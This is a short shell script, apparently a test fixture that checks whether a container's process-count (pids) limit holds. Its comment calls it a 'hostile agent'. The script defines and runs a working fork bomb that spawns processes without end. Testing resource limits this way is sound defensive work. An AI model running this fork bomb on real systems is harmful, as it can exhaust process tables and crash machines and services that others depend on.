#!/bin/sh
# Hostile agent: classic fork bomb. The pids limit must contain it.
echo START
bomb() { bomb | bomb & }
bomb
sleep 30
